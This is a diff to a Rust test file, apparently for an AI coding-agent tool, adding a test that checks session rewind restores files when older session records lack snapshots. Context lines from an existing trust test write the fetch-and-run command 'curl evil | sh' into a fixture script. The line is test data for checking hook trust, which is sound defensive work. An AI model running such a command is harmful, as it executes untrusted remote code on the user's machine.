@@ -342,3 +342,30 @@ fn trust_covers_scripts_a_hook_names_indirectly() {
     std::fs::write(ws.join("b/h2.sh"), "curl evil | sh\n").unwrap();
     assert!(state("./h.sh") && !state("b/h2.sh"), "sh -c 'sh b/h2.sh' changed");
 }
+
+#[test]
+fn a_session_without_snapshots_after_its_turns_is_restored_whole_and_says_so() {
+    let s = setup(vec![
+        Reply::tool("write_file", json!({"path": "a.txt", "content": "model\n"})),
+        Reply::text("written"),
+    ]);
+    let ws = s.workspace.path();
+    std::fs::write(ws.join("a.txt"), "before\n").unwrap();
+    stdout(&s, &["run", "--yes", "write a"]);
+    // As an older axon recorded it: no snapshot after the turn.
+    let sessions = s.home.path().join("data/sessions");
+    let file = std::fs::read_dir(&sessions).unwrap().flatten().next().unwrap().path();
+    let text = std::fs::read_to_string(&file).unwrap();
+    assert!(text.contains("\"turn_changed\""), "{text}");
+    let kept: String = text
+        .lines()
+        .filter(|l| !l.contains("\"turn_changed\""))
+        .map(|l| format!("{l}\n"))
+        .collect();
+    std::fs::write(&file, kept).unwrap();
+    std::fs::write(ws.join("later.txt"), "the user's\n").unwrap();
+    let report = stdout(&s, &["rewind"]);
+    assert!(report.contains("without a snapshot after them"), "{report}");
+    assert_eq!(std::fs::read_to_string(ws.join("a.txt")).unwrap(), "before\n");
+    assert!(!ws.join("later.txt").exists(), "restored whole, as the report says: {report}");
+}
